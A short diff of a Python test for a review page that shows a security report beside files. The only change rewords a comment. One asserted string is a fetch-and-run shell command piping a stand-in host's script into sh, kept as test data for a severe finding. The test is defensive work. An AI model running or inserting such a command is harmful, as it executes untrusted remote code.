@@ -43,7 +43,7 @@ async def test_a_review_shows_the_report_beside_the_files(
 
     assert f'href="{path}"' in listed
     assert "A script is fetched and run." in shown
-    assert "curl https://x.example | sh" in shown  # the file of the gravest finding
+    assert "curl https://x.example | sh" in shown  # the file of the most severe finding
     assert "Approve and publish" in shown
     assert "Do the thing, then say that it is done." in other
     assert "There is no such file." in outside
